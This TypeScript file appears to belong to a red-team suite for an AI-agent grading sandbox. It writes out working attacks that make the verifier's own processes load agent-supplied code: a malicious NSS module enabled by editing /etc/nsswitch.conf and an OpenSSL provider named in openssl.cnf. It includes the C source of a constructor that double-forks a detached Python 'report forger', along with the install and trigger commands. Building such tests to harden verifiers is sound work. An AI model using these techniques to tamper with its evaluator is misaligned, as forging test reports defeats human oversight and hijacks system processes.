/**
 * Code the verifier's own programs load from the sandbox, through configuration files that lie
 * outside the site directories: glibc's NSS dlopens the modules /etc/nsswitch.conf names (the
 * toolchain's loader searches the sandbox's /usr/lib/x86_64-linux-gnu after its own libraries),
 * and the toolchain's bash looks its user up at start (to set SHELL); OpenSSL's libcrypto reads
 * /usr/lib/ssl/openssl.cnf when first used (the tests hash something) and loads the providers it
 * names. Either way the agent's library runs inside the verifier's processes, after any seal,
 * and starts a report forger then.
 */
import type { Attack } from "./attack.ts"
import { FLIP_PY } from "./forge.ts"

export const NSS_MODULE_PATH = "/usr/lib/x86_64-linux-gnu/libnss_t1forge.so.2"
const PROVIDER_PATH = "/usr/local/lib/t1provider.so"
const FORGER_PATH = "/usr/local/lib/t1nssforge.py"

/**
 * The library's constructor starts the forger, detached (double fork, its own session, no fd of
 * the caller's kept: the verifier's exec ends when its bash does), and lets the caller go on. As
 * an OpenSSL provider it then declines to start (config errors are ignored unless asked for).
 */
export const FORGE_LIBRARY_C = `#include <fcntl.h>
#include <sys/wait.h>
#include <unistd.h>
__attribute__((constructor)) static void start(void) {
  pid_t pid = fork();
  if (pid != 0) {
    if (pid > 0) waitpid(pid, 0, 0);
    return;
  }
  if (fork() != 0) _exit(0);
  setsid();
  int fd = open("/dev/null", O_RDWR);
  for (int i = 0; i < 1024; i++) if (i != fd) close(i);
  dup2(fd, 0);
  dup2(fd, 1);
  dup2(fd, 2);
  execl("/usr/bin/python3.11", "python3.11", "${FORGER_PATH}", (char *)0);
  _exit(1);
}
int OSSL_provider_init(const void *core, const void *in, const void **out, void **ctx) {
  return 0;
}
`

/** One forger at a time (a lock the kernel drops with its holder), for two minutes. */
const FORGER_PY = `${FLIP_PY}
import fcntl
lock = open("/tmp/.t1nss.lock", "w")
try:
    fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
except OSError:
    raise SystemExit(0)
end = time.time() + 120
while time.time() < end:
    forge_reports()
    time.sleep(0.001)
`

const OPENSSL_CNF = `openssl_conf = openssl_init
[openssl_init]
providers = provider_sect
[provider_sect]
default = default_sect
t1 = t1_sect
[default_sect]
activate = 1
[t1_sect]
module = ${PROVIDER_PATH}
activate = 1
`

const installForger = `cat > ${FORGER_PATH} <<'T1EOF'\n${FORGER_PY}\nT1EOF`

export const verifierLoads = (library: () => Uint8Array): ReadonlyArray<Attack> => [
  {
    name: "an NSS module named in /etc/nsswitch.conf (the toolchain's bash loads it) starts a report forger",
    files: () => ({ [NSS_MODULE_PATH]: library() }),
    script: [
      installForger,
      "sed -i 's/^passwd:.*/passwd: t1forge files/' /etc/nsswitch.conf",
      // A lookup now: the forger runs from here on (what a verifier without a seal then meets).
      "id -un >/dev/null",
    ].join("\n"),
    honestAtMost: 2,
  },
  {
    name: "an OpenSSL provider named in /usr/lib/ssl/openssl.cnf (loaded when the tests hash) starts a report forger",
    task: "release",
    files: () => ({ [PROVIDER_PATH]: library() }),
    script: [
      installForger,
      `mkdir -p /usr/lib/ssl && cat > /usr/lib/ssl/openssl.cnf <<'T1EOF'\n${OPENSSL_CNF}T1EOF`,
      // A hash now: the forger runs from here on (what a verifier without a seal then meets).
      "python3 -c 'import hashlib; hashlib.sha256()'",
    ].join("\n"),
    honestAtMost: 2,
  },
]
